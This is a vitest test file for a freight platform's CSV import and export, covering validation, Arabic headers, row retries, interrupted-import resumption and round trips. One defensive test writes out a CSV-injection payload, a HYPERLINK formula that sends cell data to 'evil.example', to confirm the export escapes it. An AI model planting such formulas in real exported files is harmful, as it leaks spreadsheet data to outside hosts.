import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACCOUNT_TYPE, CSV_COLUMNS, formatPlate, type CsvLog, type Driver, type Vehicle, type Vendor } from '@masar/shared';
import { createTestApp, type TestContext } from '../../../test/helpers.ts';
import { createUser, type TestUser } from '../../../test/fixtures.ts';
import { driverBody, trailerBody, vehicleBody } from '../fleet/fleet.testkit.ts';
import { vendorBody } from '../vendors/vendors.testkit.ts';
import { loadBody } from '../loads/loads.testkit.ts';
import { multipart, vendorsCsv } from './csv.testkit.ts';

let t: TestContext;
let broker: TestUser;
let other: TestUser;

beforeAll(async () => {
  t = await createTestApp();
  broker = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
  other = await createUser(t, { accountType: ACCOUNT_TYPE.carrier });
});
afterAll(() => t?.close());

type Headers = Record<string, string>;
interface LogDetail extends CsvLog {
  rows: { id: string; rowNumber: number; data: Record<string, string>; errors: { path: string; message: string; code: string }[] }[];
  rowsTotal: number;
}
const importCsv = async (type: string, name: string, data: string | Buffer | undefined, headers: Headers = broker.headers) => {
  const m = multipart({ type }, data === undefined ? undefined : { name, data });
  const res = await t.app.inject({ method: 'POST', url: '/api/v1/csv/import', headers: { ...headers, 'content-type': m.contentType }, payload: m.payload });
  return { status: res.statusCode, body: res.json<{ data: { id: string; status: string }; code?: string; message: string }>() };
};
const getLog = async (id: string, headers: Headers = broker.headers, qs = '') => {
  const res = await t.app.inject({ url: `/api/v1/csv/logs/${id}${qs}`, headers });
  return { status: res.statusCode, body: res.json<{ data: LogDetail; code?: string }>() };
};
const waitDone = async (id: string, headers: Headers = broker.headers) => {
  for (let i = 0; i < 600; i++) {
    const l = await getLog(id, headers, '?limit=500');
    if (l.body.data.status !== 'processing') return l.body.data;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('import did not finish');
};
describe('CSV import', () => {
  it('imports 10,000 vendor rows with 5% bad rows: exact counts, bad rows listed with errors, good rows stored', async () => {
    const u = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
    const rows: Record<string, unknown>[] = [];
    const badRows = new Set<number>();
    for (let i = 0; i < 10_000; i++) {
      const b: Record<string, unknown> = { ...vendorBody(), email: `bulk${i}@vendors.sa`, phone: `+9665${String(10000000 + i).padStart(8, '0')}` };
      if (i % 20 === 7) {
        badRows.add(i + 1);
        if (i % 40 === 7)
          b.vatNumber = '123'; // bad VAT
        else b.email = 'not-an-email';
      }
      rows.push(b);
    }
    const started = Date.now();
    const r = await importCsv('vendors', 'vendors.csv', vendorsCsv(rows), u.headers);
    expect(r.status, JSON.stringify(r.body)).toBe(202);
    expect(r.body.data.status).toBe('processing');
    const log = await waitDone(r.body.data.id, u.headers);
    const ms = Date.now() - started;
    expect(log).toMatchObject({ status: 'completed', total: 10_000, succeeded: 9_500, failed: 500, processing: 0, type: 'vendors', fileName: 'vendors.csv' });
    expect(log.rowsTotal).toBe(500);
    const listed = new Set<number>();
    for (let skip = 0; skip < 500; skip += 500) {
      const page = await getLog(r.body.data.id, u.headers, `?limit=500&skip=${skip}`);
      for (const row of page.body.data.rows) listed.add(row.rowNumber);
    }
    expect([...listed].sort((a, b) => a - b)).toEqual([...badRows].sort((a, b) => a - b));
    const first = log.rows[0];
    expect(first.rowNumber).toBe(8);
    expect(first.errors).toEqual([{ path: 'vatNumber', code: 'v.vatNumber', message: 'VAT number must be 15 digits starting with 3.' }]);
    expect(log.rows[1].errors[0]).toMatchObject({ path: 'email', code: 'v.emailInvalid' });
    const stored = await t.app.inject({ url: '/api/v1/vendors?limit=1', headers: u.headers });
    expect(stored.json<{ data: { total: number } }>().data.total).toBe(9_500);
    console.log(`[csv] 10,000 vendor rows on ${t.database.engine}: ${ms} ms (${Math.round(10_000 / (ms / 1000))} rows/s)`);
  }, 240_000);

  it('accepts Arabic headers, localizes row errors by the language header, and the fix flow resubmits rows', async () => {
    const u = await createUser(t, { accountType: ACCOUNT_TYPE.carrier });
    const good = vendorBody();
    const bad = { ...vendorBody(), vatNumber: '999', crNumber: '0000000000' };
    const r = await importCsv('vendors', 'موردين.csv', '\uFEFF' + vendorsCsv([good, bad], 'ar'), u.headers);
    expect(r.status).toBe(202);
    const log = await waitDone(r.body.data.id, u.headers);
    expect(log).toMatchObject({ status: 'completed', total: 2, succeeded: 1, failed: 1 });
    const ar = await getLog(r.body.data.id, { ...u.headers, language: 'ar' });
    const errs = ar.body.data.rows[0].errors;
    expect(errs.find((e) => e.path === 'vatNumber')!.message).toBe('الرقم الضريبي ١٥ رقماً ويبدأ بـ 3.');
    expect(errs.find((e) => e.path === 'crNumber')).toBeTruthy();
    // fix: a still-bad edit stays failed with its new errors; a good edit succeeds and leaves the list
    const row = ar.body.data.rows[0];
    const still = await t.app.inject({
      method: 'POST',
      url: `/api/v1/csv/logs/${log.id}/retry`,
      headers: u.headers,
      payload: { rows: [{ rowId: row.id, data: { ...row.data, vatNumber: '300000000000003' } }] },
    });
    expect(still.json<{ data: LogDetail }>().data.rows[0].errors.map((e) => e.path)).toEqual(['crNumber']);
    const fixed = await t.app.inject({
      method: 'POST',
      url: `/api/v1/csv/logs/${log.id}/retry`,
      headers: u.headers,
      payload: { rows: [{ rowId: row.id, data: { ...row.data, vatNumber: '300000000000003', crNumber: '1010101010' } }] },
    });
    expect(fixed.statusCode, fixed.body).toBe(200);
    expect(fixed.json<{ data: LogDetail }>().data).toMatchObject({ succeeded: 2, failed: 0, rows: [] });
    const vendors = await t.app.inject({ url: '/api/v1/vendors', headers: u.headers });
    expect(
      vendors
        .json<{ data: { items: Vendor[] } }>()
        .data.items.map((v) => v.email)
        .sort(),
    ).toEqual([good.email, bad.email].sort());
    // another owner cannot see or retry the log
    expect((await getLog(log.id, other.headers)).status).toBe(404);
  });

  it('rows failing on a database rule (duplicate e-mail in the file) fail alone; good rows of the same chunk are kept', async () => {
    const u = await createUser(t, { accountType: ACCOUNT_TYPE.shipper });
    const a = vendorBody();
    const r = await importCsv('vendors', 'dups.csv', vendorsCsv([a, vendorBody(), { ...vendorBody(), email: a.email }]), u.headers);
    const log = await waitDone(r.body.data.id, u.headers);
    expect(log).toMatchObject({ total: 3, succeeded: 2, failed: 1 });
    expect(log.rows[0]).toMatchObject({ rowNumber: 3, errors: [{ code: 'VENDOR_EMAIL_EXISTS', message: 'Email already exists.' }] });
  });

  it('answers the spec messages for a missing file and for a file that is not CSV', async () => {
    const none = await importCsv('vendors', '', undefined);
    expect(none.status).toBe(400);
    expect(none.body).toMatchObject({ code: 'UPLOAD_FILE_FIRST', message: 'Upload the file first.' });
    const xlsxName = await importCsv('vendors', 'vendors.xlsx', vendorsCsv([vendorBody()]));
    expect(xlsxName.body).toMatchObject({ code: 'UPLOAD_A_CSV', message: 'Upload a CSV file.' });
    // a PNG renamed to .csv is caught by its content
    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
    expect((await importCsv('vendors', 'vendors.csv', png)).body.code).toBe('UPLOAD_A_CSV');
    const bad = await importCsv('vendors', 'vendors.csv', 'nothing here but words');
    expect(bad.body.code).toBe('UPLOAD_A_CSV');
    // wrong headers: the log fails with a reason
    const wrong = await importCsv('vendors', 'vendors.csv', 'a,b,c\n1,2,3\n');
    const log = await waitDone(wrong.body.data.id);
    expect(log).toMatchObject({ status: 'failed', error: 'The CSV headers do not match the template.' });
  });

  it('imports drivers, vehicles and trailers with the form rules (plate as one string, duplicate plates caught)', async () => {
    const u = await createUser(t, { accountType: ACCOUNT_TYPE.carrier });
    const d = driverBody();
    const dcsv = Papa.unparse({
      fields: CSV_COLUMNS.drivers.map((c) => c.en),
      data: [CSV_COLUMNS.drivers.map((c) => String(((d as Record<string, unknown>)[c.key] as string | number | undefined) ?? ''))],
    });
    const dl = await waitDone((await importCsv('drivers', 'drivers.csv', dcsv, u.headers)).body.data.id, u.headers);
    expect(dl).toMatchObject({ succeeded: 1, failed: 0 });
    const tb = trailerBody();
    const tcsv = Papa.unparse({
      fields: CSV_COLUMNS.trailers.map((c) => c.ar),
      data: [[tb.trailerType, tb.trailerNumber, '1360', '250', '30000', 'flatbed_trailer;lowbed']],
    });
    expect(await waitDone((await importCsv('trailers', 'trailers.csv', tcsv, u.headers)).body.data.id, u.headers)).toMatchObject({ succeeded: 1, failed: 0 });
    const v = vehicleBody();
    const plate = formatPlate(v.plate);
    const line = (p: string) => [v.vehicleType, '2020', 'Isuzu', 'FVR', 'White', '3', p, '', '123456', '', '12000'];
    const vcsv = Papa.unparse({ fields: CSV_COLUMNS.vehicles.map((c) => c.en), data: [line(plate), line(plate), line('12 ab')] });
    const vl = await waitDone((await importCsv('vehicles', 'vehicles.csv', vcsv, u.headers)).body.data.id, u.headers);
    expect(vl).toMatchObject({ total: 3, succeeded: 1, failed: 2 });
    expect(vl.rows.map((r) => r.errors[0].code).sort()).toEqual(['DUPLICATE_PLATE', 'v.plateDigits']);
  });
});

describe('shipments import (through the loads service)', () => {
  it('creates good shipments, lists bad ones, and keeps the posting gates', async () => {
    const shipper = await createUser(t, { accountType: ACCOUNT_TYPE.shipper });
    const good = loadBody();
    const past = loadBody({ day: -1 });
    const row = (b: ReturnType<typeof loadBody>) => [
      b.loadType,
      b.equipmentType,
      JSON.stringify(b.stops),
      JSON.stringify(b.cargo),
      b.priceSar,
      b.comments ?? '',
      'yes',
    ];
    const csv = Papa.unparse({
      fields: CSV_COLUMNS.shipments.map((c) => c.en),
      data: [row(good), row(past), row({ ...good, equipmentType: 'spaceship', stops: loadBody({ day: 3 }).stops })],
    });
    // the board versions (migration 0102): a post bumps its pickup place's counters
    const boardVersion = async () => (await t.database.query<{ v: string }>(`select coalesce(sum(v), 0)::text as v from board_versions where kind = 0`))[0].v;
    const versionBefore = await boardVersion();
    const r = await importCsv('shipments', 'loads.csv', csv, shipper.headers);
    expect(r.status, JSON.stringify(r.body)).toBe(202);
    const log = await waitDone(r.body.data.id, shipper.headers);
    expect(log).toMatchObject({ total: 3, succeeded: 1, failed: 2 });
    // the posted load bumped its pickup city's board version: cached search pages there are read again (issue 24)
    expect(BigInt(await boardVersion())).toBeGreaterThan(BigInt(versionBefore));
    expect(log.rows.map((x) => x.errors[0].code)).toEqual(['v.timeInPast', 'INVALID_EQUIPMENT']);
    const mine = await t.app.inject({ url: '/api/v1/my-loads?tab=posted', headers: shipper.headers });
    expect(mine.json<{ data: { total: number } }>().data.total).toBe(1);
    const unapproved = await createUser(t, { accountType: ACCOUNT_TYPE.shipper, approved: false });
    expect((await importCsv('shipments', 'loads.csv', csv, unapproved.headers)).body.code).toBe('ACCOUNT_NOT_APPROVED');
    expect((await importCsv('shipments', 'loads.csv', csv, other.headers)).body.code).toBe('WRONG_ROLE');
  });
});

describe('interrupted imports resume (issue 6)', () => {
  it('an import whose worker died after some chunks is finished from its cursor, with exact counts and no duplicate', async () => {
    const { csvLogs } = await import('../../db/schema/index.ts');
    const owner = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
    const rows = 1_250; // three windows of CSV_CHUNK (500)
    const body: Record<string, unknown>[] = [];
    for (let i = 0; i < rows; i++) {
      const b: Record<string, unknown> = { ...vendorBody(), email: `resume${i}@vendors.sa`, phone: `+9665${String(20000000 + i).padStart(8, '0')}` };
      if (i % 50 === 0) b.email = 'not-an-email'; // 25 bad rows
      body.push(b);
    }
    const csv = vendorsCsv(body);
    // a worker took the job, committed the first window (500 rows), then its process was killed
    const id = '01900000-0000-7000-8000-00000000c5f1';
    await t.database.db.insert(csvLogs).values({ id, ownerId: owner.id, type: 'vendors', status: 'processing', source: csv });
    const svc = t.app.container.services.csv;
    const logOf = async () =>
      (
        await t.database.query<{ next_row: number; succeeded: number; failed: number; status: string }>(
          'select next_row, succeeded, failed, status from csv_logs where id = $1',
          [id],
        )
      )[0];
    // a worker runs the job and is stopped (killed) after its first committed window
    const stop = new AbortController();
    const dying = svc.processImport(id, stop.signal);
    for (let i = 0; i < 2000 && (await logOf()).next_row === 0; i++) await new Promise((r) => setTimeout(r, 2));
    stop.abort();
    await expect(dying).rejects.toThrow(/interrupted/);
    const cut = await logOf();
    expect(cut.status).toBe('processing');
    expect(cut.next_row).toBeGreaterThan(0);
    expect(cut.next_row).toBeLessThan(rows);
    expect(cut.succeeded + cut.failed).toBe(cut.next_row);
    // the durable job runs again (pg-boss retries it on any instance) and resumes from the cursor
    await t.app.container.jobs.send('csv.import', { logId: id }, { singletonKey: id });
    const log = await waitDone(id, owner.headers);
    expect(log).toMatchObject({ status: 'completed', total: rows, succeeded: rows - 25, failed: 25, processing: 0 });
    const [{ n }] = await t.database.query<{ n: number }>('select count(*)::int as n from vendors where owner_id = $1', [owner.id]);
    expect(n).toBe(rows - 25);
    const [{ f }] = await t.database.query<{ f: number }>('select count(*)::int as f from csv_log_rows where log_id = $1', [id]);
    expect(f).toBe(25);
  });
});

describe('templates and export', () => {
  it('serves templates with English or Arabic headers and a BOM', async () => {
    for (const lang of ['en', 'ar'] as const) {
      const r = await t.app.inject({ url: `/api/v1/csv/templates/vehicles?lang=${lang}`, headers: broker.headers });
      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(r.body.charCodeAt(0)).toBe(0xfeff);
      expect(r.body.slice(1).trim()).toBe(CSV_COLUMNS.vehicles.map((c) => c[lang]).join(','));
    }
  });

  it('exports readable cells and defuses spreadsheet formulas (OWASP CSV injection)', async () => {
    const a = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/vendors',
      headers: a.headers,
      payload: vendorBody({ companyName: evil, notes: '@SUM(1+1)', officeLocations: [{ cityId: 1, address: 'King Fahd Rd' }] }) as object,
    });
    expect(res.statusCode, res.body).toBe(201);
    const exp = await t.app.inject({ url: '/api/v1/csv/export/vendors?lang=en', headers: a.headers });
    const rows = Papa.parse<string[]>(exp.body.slice(1), { skipEmptyLines: true }).data;
    const header = rows[0];
    const row = rows[1];
    const cell = (label: string) => row[header.indexOf(label)];
    expect(cell(CSV_COLUMNS.vendors.find((c) => c.key === 'companyName')!.en)).toBe(`'${evil}`);
    expect(cell(CSV_COLUMNS.vendors.find((c) => c.key === 'notes')!.en)).toBe("'@SUM(1+1)");
    // the phone begins with + too: defused on export, read back on import
    expect(cell(CSV_COLUMNS.vendors.find((c) => c.key === 'phone')!.en)).toMatch(/^'\+966/);
    // structured cells are readable text, not JSON
    const office = cell(CSV_COLUMNS.vendors.find((c) => c.key === 'officeLocations')!.en);
    expect(office).not.toMatch(/[{}[\]"]/);
    expect(office).toMatch(/\(1\) — King Fahd Rd$/);
    for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('export → import round trip (vendors, drivers, vehicles) in Arabic', async () => {
    const a = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
    const b = await createUser(t, { accountType: ACCOUNT_TYPE.broker });
    const post = (url: string, body: unknown) => t.app.inject({ method: 'POST', url: `/api/v1${url}`, headers: a.headers, payload: body as object });
    for (let i = 0; i < 3; i++) expect((await post('/vendors', vendorBody({ notes: i === 0 ? 'فاصلة, و"اقتباس"' : undefined }))).statusCode).toBe(201);
    expect((await post('/drivers', driverBody({ moiNumber: '7100000009' }))).statusCode).toBe(201);
    expect((await post('/vehicles', vehicleBody())).statusCode).toBe(201);
    const strip = (x: Record<string, unknown>) => {
      const { id: _i, createdAt: _c, updatedAt: _u, ...rest } = x;
      return rest;
    };
    for (const type of ['vendors', 'drivers', 'vehicles'] as const) {
      const exp = await t.app.inject({ url: `/api/v1/csv/export/${type}?lang=ar`, headers: a.headers });
      expect(exp.statusCode).toBe(200);
      expect(exp.body.charCodeAt(0)).toBe(0xfeff);
      expect(exp.body).toContain(CSV_COLUMNS[type][0].ar);
      // MOI is unique platform-wide: move the driver to B by deleting it from A first
      if (type === 'drivers') {
        const list = await t.app.inject({ url: '/api/v1/drivers', headers: a.headers });
        for (const d of list.json<{ data: { items: Driver[] } }>().data.items)
          await t.app.inject({ method: 'DELETE', url: `/api/v1/drivers/${d.id}`, headers: a.headers });
      }
      if (type === 'vehicles') {
        const list = await t.app.inject({ url: '/api/v1/vehicles', headers: a.headers });
        for (const v of list.json<{ data: { items: Vehicle[] } }>().data.items)
          await t.app.inject({ method: 'DELETE', url: `/api/v1/vehicles/${v.id}`, headers: a.headers });
      }
      const imp = await importCsv(type, `${type}.csv`, exp.rawPayload, b.headers);
      const log = await waitDone(imp.body.data.id, b.headers);
      expect(log.failed, JSON.stringify(log.rows)).toBe(0);
      const state = type === 'vendors' ? '' : '?state=deleted';
      const before = (await t.app.inject({ url: `/api/v1/${type}${state}`, headers: a.headers })).json<{ data: { items: Record<string, unknown>[] } }>().data
        .items;
      const after = (await t.app.inject({ url: `/api/v1/${type}`, headers: b.headers })).json<{ data: { items: Record<string, unknown>[] } }>().data.items;
      expect(after.length).toBe(before.length);
      const pick = (x: Record<string, unknown>) => {
        const s = strip(x);
        if (type === 'vehicles') return { plate: s.plate, make: s.make, weightKg: s.weightKg, sequenceNumber: s.sequenceNumber, imei: s.imei };
        if (type === 'drivers') return { phone: s.phone, moiNumber: s.moiNumber, dateOfBirth: s.dateOfBirth, nationality: s.nationality };
        return { ...s, documentFileIds: [] };
      };
      const key = (x: Record<string, unknown>) => JSON.stringify(x);
      expect(after.map(pick).map(key).sort()).toEqual(before.map(pick).map(key).sort());
    }
    const loads = await t.app.inject({ url: '/api/v1/csv/export/loads?lang=en', headers: a.headers });
    expect(loads.statusCode).toBe(200);
    expect(loads.body.slice(1).split('\r\n')[0]).toContain('Reference');
  });
});
